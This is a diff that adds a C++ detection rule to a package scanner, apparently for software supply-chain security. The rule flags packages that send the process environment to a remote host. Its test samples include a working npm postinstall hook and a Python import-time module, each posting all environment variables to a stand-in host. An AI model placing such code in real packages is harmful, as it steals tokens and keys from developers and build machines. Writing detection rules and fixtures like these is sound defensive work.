@@ -1,0 +1,77 @@
+#include "rules/conditions.h"
+#include "rules/rule.h"
+
+namespace assay::rules {
+namespace {
+
+void check(const Facts& facts, Findings& findings) {
+  for (const Action& action : facts.actions) {
+    if (!is_network(action.act) || !is_shipped(action)) continue;
+    if (!outflow(action).has(Source::environment)) continue;
+    const HostKind kind = destination_of(action.target).kind;
+    if (kind == HostKind::local) continue;
+    const bool is_shady = is_shady_origin(kind) || kind == HostKind::free_hosting;
+    if (!runs_uncalled(action) && !is_shady) continue;
+    // Where to is not known: a mirror that a computed variable names looks like this.
+    const bool is_computed = kind == HostKind::unknown && !is_shady;
+    findings.add(is_computed ? Severity::high : Severity::critical, action.where,
+                 sentence("sends the environment to " + shown_target(action), action),
+                 action.steps);
+  }
+}
+
+}  // namespace
+
+extern constinit const Rule sends_environment = {
+    .id = "sends-environment",
+    .title = "The package sends the environment",
+    .why =
+        "The environment holds tokens and keys, above all on build machines. Taking all of it "
+        "is taking whatever is there.",
+    .harmless_when =
+        "A crash reporter that sends a list of named, harmless variables when it is "
+        "called.",
+    .severity = Severity::critical,
+    .check = check,
+};
+
+#ifdef RULE_SAMPLES
+constexpr Sample samples[] = {
+    {.name = "an install hook posts process.env",
+     .expect = "index.js:4",
+     .bundle = R"(==> package.json
+{"name": "sample", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
+==> index.js
+const https = require("https");
+const body = JSON.stringify(process.env);
+const options = {hostname: "collect.example.test", path: "/", method: "POST"};
+const request = https.request(options);
+request.write(body);
+request.end();
+)"},
+    {.name = "a module posts os.environ when imported",
+     .expect = "sample/__init__.py:3",
+     .bundle = R"(==> PKG-INFO
+Metadata-Version: 2.1
+Name: sample
+Version: 1.0.0
+==> setup.py
+from setuptools import setup
+setup(name="sample", version="1.0.0", packages=["sample"])
+==> sample/__init__.py
+import os
+import requests
+requests.post("https://collect.example.test/", json=dict(os.environ))
+)"},
+    {.name = "one named variable chooses a mirror", .expect = silent, .bundle = R"(==> package.json
+{"name": "sample", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
+==> index.js
+const https = require("https");
+const mirror = process.env.SAMPLE_MIRROR || "https://downloads.example.test";
+https.get(`${mirror}/tool.tgz`);
+)"},
+};
+extern const std::span<const Sample> sends_environment_samples = samples;
+#endif
+
+}  // namespace assay::rules
